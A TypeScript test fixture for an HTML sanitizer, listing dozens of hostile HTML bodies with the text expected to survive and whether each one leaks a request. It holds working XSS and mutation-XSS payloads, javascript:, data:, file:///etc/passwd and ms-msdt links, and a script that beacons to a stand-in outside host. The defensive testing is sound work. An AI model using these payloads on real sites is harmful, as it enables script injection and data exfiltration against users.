/** HTML that somebody made to do more than be read. The same list is used on the sanitizer and in a real browser. */
export interface HostileBody {
  readonly name: string;
  readonly html: string;
  /** All that a person may see of it, with white space folded. */
  readonly reads: string;
  /** Whether it sends a request without any click where nothing blocks it, which proves that blocking works. */
  readonly leaks: boolean;
}

type Made = Omit<HostileBody, 'name'>;

/** Text around a payload, which must be kept; `inner` is the part of the payload that may remain as text. */
function around(payload: string, inner = ''): Made {
  return { html: `<p>before</p>${payload}<p>after</p>`, reads: fold(`before ${inner} after`), leaks: false };
}

function leaking(payload: string, inner = ''): Made {
  return { ...around(payload, inner), leaks: true };
}

function exactly(html: string, reads: string): Made {
  return { html, reads, leaks: false };
}

/** Text as it is compared: white space folded, marks of direction left out. */
export function fold(text: string): string {
  return text
    .replace(/[\u202A-\u202E]/g, '')
    .replace(/\s+/g, ' ')
    .trim();
}

/** A placeholder for the address of an outside server; a browser test replaces it with `aimedAt`. */
export const outside = 'http://outside.invalid';

/** Accesses everything that must be out of a body’s reach, and sends it to the outside. */
const js = `try{top.touched=1}catch(e){};try{parent.touched=1}catch(e){};new Image().src='${outside}/touched';void 0`;

function scripts(): Readonly<Record<string, Made>> {
  return {
    'a script': leaking(`<script>${js}</script>`),
    'a script from elsewhere': leaking(`<script src="${outside}/x.js"></script>`),
    'a module script from elsewhere': leaking(`<script type="module" src="${outside}/x.mjs"></script>`),
    'a script in capitals with blanks': leaking(`<SCRIPT\n>${js}</SCRIPT\t>`),
    'a script split by another': around(`<scr<script>ipt>${js}</scr</script>ipt>`, `ipt>${js}ipt>`),
    'a script inside a removed tag': leaking(`<scr<b>ipt></b><script>${js}</script>`, 'ipt>'),
    'a script that is never closed': exactly(`<p>before</p><script>${js}`, 'before'),
    'a script after half a comment': leaking(`<!--><script>${js}</script>-->`, '-->'),
    'an image that fails': leaking(`<img src=x onerror="${js}">`),
    'an image with a slash for a blank': leaking(`<img/src="x"/onerror="${js}">`),
    'a handler after a NUL': leaking(`<img src=x \0onerror="1" onerror="${js}">`),
    'an unclosed image': exactly(`<p>before</p><img src="${outside}/x" onerror="${js}" `, 'before'),
    'a handler on a kept tag': around(`<p onclick="${js}" onmouseover="${js}">words</p>`, 'words'),
    'a body with a load handler': around(`<body onload="${js}">`),
    'an animation that starts': around(`<p style="animation:x" onanimationstart="${js}">words</p>`, 'words'),
    'details that open themselves': leaking(`<details open ontoggle="${js}">words</details>`, 'words'),
    'a marquee that starts': around(`<marquee onstart="${js}">words</marquee>`, 'words'),
    'a field that focuses itself': around(`<input autofocus onfocus="${js}">`),
    'a video without a source': leaking(`<video><source onerror="${js}"></video>`),
    'a handler on an unknown tag': around(`<xss id=x tabindex=1 onfocus="${js}">words</xss>`, 'words'),
  };
}

function addresses(): Readonly<Record<string, Made>> {
  const active = `javascript:${js}`;
  const link = (href: string) => around(`<a href="${href}">link</a>`, 'link');
  return {
    'a javascript: link': link(active),
    'a javascript: link in mixed case': link(active.replace('javascript', 'JaVaScRiPt')),
    'a javascript: link with a tab inside': link(active.replace('java', 'java\t')),
    'a javascript: link with a line break as an entity': link(active.replace('java', 'java&#10;')),
    'a javascript: link behind control characters': link(`&#1;&#14;  ${active}`),
    'a javascript: link with an encoded colon': link(active.replace(':', '&colon;')),
    'a javascript: link with entities that have no end': link(active.replace('javascript', '&#0000106avascript')),
    'a vbscript: link': link('vbscript:msgbox(1)'),
    'a data: page': link(`data:text/html,<script>${js}</script>`),
    'a data: page in base64': link('data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=='),
    'a blob: and a filesystem: link': around('<a href="blob:x">one</a><a href="filesystem:x">two</a>', 'onetwo'),
    'a file: link': link('file:///etc/passwd'),
    'an app: link and a link to a share': around(
      '<a href="app://deskside/">one</a><a href="\\\\x\\y">two</a>',
      'onetwo',
    ),
    'an unknown protocol': link('ms-msdt:/id PCWDiagnostic'),
    'a link into this desk': around('<a href="/bridge/call">one</a><a href="//evil.example">two</a>', 'onetwo'),
    'a link with a target and a ping': around(
      `<a href="https://a.example/" target="_top" ping="${outside}/ping" download>link</a>`,
      'link',
    ),
    'a frame with a javascript: address': leaking(`<iframe src="${active}"></iframe>`),
    'a form with a javascript: action': around(`<form action="${active}"><button>Send</button></form>`, 'Send'),
  };
}

function loads(): Readonly<Record<string, Made>> {
  const style = (rules: string) => leaking(`<style>${rules}</style><i class="x">words</i>`, 'words');
  return {
    'an image': leaking(`<img src="${outside}/i.png">`),
    'an image in a set': leaking(`<img srcset="${outside}/i.png 1x">`),
    'a picture': leaking(`<picture><source srcset="${outside}/i.png"><img></picture>`),
    'an old background': leaking(`<table background="${outside}/i.png"><tr><td>cell</td></tr></table>`, 'cell'),
    'a background in a style': leaking(`<p style="background:url(${outside}/i.png)">words</p>`, 'words'),
    'a style sheet': leaking(`<link rel="stylesheet" href="${outside}/x.css">`),
    'an imported style sheet': leaking(`<style>@import "${outside}/x.css";</style>`),
    'a font': style(`@font-face{font-family:x;src:url(${outside}/f.woff2)}.x{font-family:x}`),
    'a list mark': style(`.x{display:list-item;list-style-image:url(${outside}/i.png)}`),
    'content from elsewhere': style(`.x::before{content:url(${outside}/i.png)}`),
    'a poster': leaking(`<video poster="${outside}/i.png"></video>`),
    'a video': leaking(`<video src="${outside}/v.mp4" autoplay></video>`),
    'a sound': leaking(`<audio src="${outside}/a.mp3" autoplay></audio>`),
    'an object': leaking(`<object data="${outside}/o"></object>`),
    'an embedded file': leaking(`<embed src="${outside}/e">`),
    'a frame': leaking(`<iframe src="${outside}/f"></iframe>`),
    'a frame with its page inside': leaking(`<iframe srcdoc="<img src='${outside}/i.png'>"></iframe>`),
    'an image as a button': leaking(`<input type="image" src="${outside}/i.png">`),
    'a page fetched ahead': leaking(`<link rel="prefetch" href="${outside}/p">`),
    'a page connected to ahead': around(
      `<link rel="preconnect" href="${outside}"><link rel="dns-prefetch" href="${outside}">`,
    ),
    'a refresh': leaking(`<meta http-equiv="refresh" content="0;url=${outside}/r">`),
    'a base for relative images': leaking(`<base href="${outside}/"><img src="relative.png">`),
    'a form that sends itself': leaking(
      `<form id="f" action="${outside}/s" method="post"><input name="a"></form><script>f.submit()</script>`,
    ),
    'a policy of its own': leaking(
      `<meta http-equiv="Content-Security-Policy" content="default-src *"><img src="${outside}/i.png">`,
    ),
  };
}

function foreign(): Readonly<Record<string, Made>> {
  const image = `<img src=x onerror="${js}">`;
  return {
    'an SVG that loads': leaking(`<svg onload="${js}"></svg>`),
    'an SVG with a script': leaking(`<svg><script>${js}</script></svg>`),
    'an SVG with an image': leaking(`<svg><image href="${outside}/i.png" /></svg>`),
    'an SVG whose link is animated': around(
      '<svg><a><animate attributeName="href" values="javascript:alert(1)"/><text y="9">text</text></a></svg>',
    ),
    'HTML inside an SVG': leaking(`<svg><foreignObject>${image}</foreignObject></svg>`),
    'MathML with a link': around('<math href="javascript:alert(1)"><mi>x</mi></math>'),
    'a mutation through MathML and a style': leaking(
      `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=1&gt;"></table></math>${image}`,
    ),
    'a mutation through forms in MathML': exactly(
      `<p>before</p><form><math><mtext></form><form><mglyph><style></math>${image}`,
      'before',
    ),
    'a mutation through a noscript': leaking(
      `<noscript><p title="</noscript>${image.replaceAll('"', '&quot;')}"></noscript>${image}`,
    ),
    'a mutation through an SVG style': leaking(`<svg></p><style><a id="</style>${image}">`, '">'),
    'a mutation through a textarea': leaking(`<textarea><p title="</textarea>${image}"></p>`, '">'),
    'a mutation through a title': leaking(`<title><p title="</title>${image}"></p>`, '">'),
    'a mutation through CDATA': leaking(`<svg><![CDATA[><image xlink:href="]]>${image}//"></svg>`, '//">'),
    'a CDATA section in HTML': leaking(`<![CDATA[ ><![CDATA[>${image}]]>`, ']]>'),
    'a template': around(`<template>${image}</template>`),
    'a template in a table in a template': around(`<template><table><template>${image}</template></table></template>`),
    'a comment with a wrong end': leaking(`<!-- --!>${image}-->`, '-->'),
    'a comment that never ends': exactly(`<p>before</p><!-- ${image}`, 'before'),
    'a processing instruction': leaking(`<?xml-stylesheet href="x"?>${image}`),
    'text that a plaintext tag makes of all the rest': exactly(`<p>before</p><plaintext>${image}`, `before ${image}`),
    'a page inside of a page': leaking(`</body></html><html><head></head><body>${image}</body></html>`),
    'a select that hides its options': around('<select><option>one</option></select>'),
    'nested links and tables': around(
      '<a href="https://a.example/"><table><td><a href="javascript:1">in</a></table></a>',
      'in',
    ),
    'names that shadow the document': around(
      '<form name="body"><p id="cookie" name="domain">words</p></form>',
      'words',
    ),
  };
}

function characters(): Readonly<Record<string, Made>> {
  const nested = 300;
  return {
    'a NUL inside of a tag name': around('<scr\0ipt>text</scr\0ipt>', 'text'),
    'characters that turn the reading direction': around('<p>Ken\u202Etxt.exe\u202C</p>', 'Kentxt.exe'),
    'a tag of full-width characters': around('＜script＞text＜/script＞', '＜script＞text＜/script＞'),
    'a tag that was escaped already': around('&lt;img src=x onerror=alert(1)&gt;', '<img src=x onerror=alert(1)>'),
    'a tag that was escaped twice': around('&amp;lt;script&amp;gt;', '&lt;script&gt;'),
    'attributes that never end': exactly(`<p>before</p><p ${'a="'.repeat(500)}`, 'before'),
    'hundreds of bold tags inside each other': exactly(`<p>before</p>${'<b>'.repeat(nested)}deep`, 'before deep'),
    'lists inside of lists': exactly(`<p>before</p>${'<ul><li>'.repeat(60)}deep`, 'before deep'),
  };
}

export const hostileBodies: readonly HostileBody[] = Object.entries({
  ...scripts(),
  ...addresses(),
  ...loads(),
  ...foreign(),
  ...characters(),
}).map(([name, made]) => ({ name, ...made }));

export function aimedAt(html: string, url: string): string {
  return html.replaceAll(outside, url);
}

/** What people write, for comparing. */
export const ordinaryWords = '<p>Adobe Reader closes <b>as soon</b> as it is opened.</p>';

/** What makes careless readers slow when it is repeated. */
export const slowPieces: Readonly<Record<string, string>> = {
  'less-than signs': '<',
  ampersands: '&',
  'bold tags': '<b>',
  boxes: '<div>',
  'paragraphs in bold': '<b><p>',
  'closed bold without an open one': '</b>',
  'crossed tags': '<a><b></a>',
  'tables in tables': '<table><td>',
  'lists in lists': '<ul><li>',
  'quotes in quotes': '<blockquote>',
  'SVG in SVG': '<svg>',
  comments: '<!--',
  'half attributes': '<a href="',
  'entities without an end': '&notit',
  'line breaks': '<br>',
  blanks: ' ',
  preformatted: '<pre>\n',
  'forms crossed with boxes': '<form><div></form>',
  templates: '<template>',
  'marks of direction': '\u202E',
};

/** Bold tags that a browser opens again in each of as many paragraphs. */
export function reopenedBold(count: number): string {
  const tags = Array.from({ length: count }, (_, index) => `<b x=${index}>`).join('');
  return `<p>${tags}${'<p>x'.repeat(count)}`;
}
